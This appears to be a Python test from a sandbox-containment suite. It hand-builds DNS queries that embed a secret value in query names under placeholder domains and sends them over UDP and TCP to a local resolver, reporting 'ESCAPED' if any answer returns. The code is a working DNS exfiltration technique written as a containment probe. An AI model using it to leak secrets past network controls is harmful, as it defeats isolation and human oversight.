"""Ask the resolver for other kinds of answers, over datagrams and streams."""

META = {"group": "network", "seen": "net:", "effects": ["net: example.com"]}


def attack():
    import socket, struct
    def question(name, kind):
        labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
        return struct.pack(">HHHHHH", 9, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
    got = []
    for kind in (1, 28, 16, 255, 15, 5, 252, 65):
        for name in (T["secret"].lower() + ".example.org", "example.com." + T["secret"].lower() + ".net"):
            for how in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                try:
                    s = socket.socket(socket.AF_INET, how)
                    s.settimeout(0.3)
                    s.connect(("127.0.0.1", 53))
                    data = question(name, kind)
                    s.send(data if how == socket.SOCK_DGRAM else struct.pack(">H", len(data)) + data)
                    reply = s.recv(600)
                    reply = reply if how == socket.SOCK_DGRAM else reply[2:]
                    if len(reply) > 8 and struct.unpack_from(">H", reply, 6)[0]:
                        got.append((name, kind))
                except OSError:
                    continue
    return f"ESCAPED: {got}" if got else "contained"
